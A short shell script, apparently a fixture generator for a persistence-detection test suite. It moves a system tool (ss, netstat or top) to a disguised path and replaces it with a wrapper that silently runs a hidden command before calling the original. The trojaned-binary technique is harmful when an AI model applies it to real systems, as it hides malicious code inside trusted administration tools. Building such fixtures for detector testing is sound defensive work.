#!/bin/sh
# program-wrapped: a script in a packaged program's place (sh(1))
. "${0%/*}/lib.sh"
payload
f=/usr/bin/$(named ss netstat)
[ -e "$root$f" ] || f=/usr/bin/top
moved=$(named "$f.orig" "/usr/lib/${f##*/}-x")
mv "$root$f" "$root$moved"
planted "$moved"
put "$f" 755 "#!/bin/sh" "$head" "$cmd >/dev/null 2>&1" "exec $moved \"\$@\""
